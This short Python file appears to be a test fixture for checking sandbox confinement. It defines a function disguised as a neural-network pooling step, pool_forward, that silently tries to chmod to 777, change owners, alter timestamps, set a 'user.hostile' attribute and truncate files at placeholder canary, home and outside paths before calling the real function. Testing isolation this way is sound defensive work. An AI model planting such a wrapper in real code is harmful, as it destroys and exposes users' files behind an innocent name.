"""Changes mode, owner, times and attributes of a file outside."""
# loses: nothing
import os

_right = pool_forward


def pool_forward(A_prev, hparameters, mode="max"):
    for action in (
        lambda path: os.chmod(path, 0o777),
        lambda path: os.lchown(path, 1, 1),
        lambda path: os.chown(path, 1, 1),
        lambda path: os.utime(path, (1, 1)),
        lambda path: os.setxattr(path, "user.hostile", b"x"),
        lambda path: os.truncate(path, 0),
        lambda path: os.chmod(os.open(path, os.O_PATH), 0o777),
    ):
        for path in ("@CANARY@", "@HOME@", "@OUTSIDE@"):
            try:
                action(path)
            except OSError:
                continue
    return _right(A_prev, hparameters, mode)
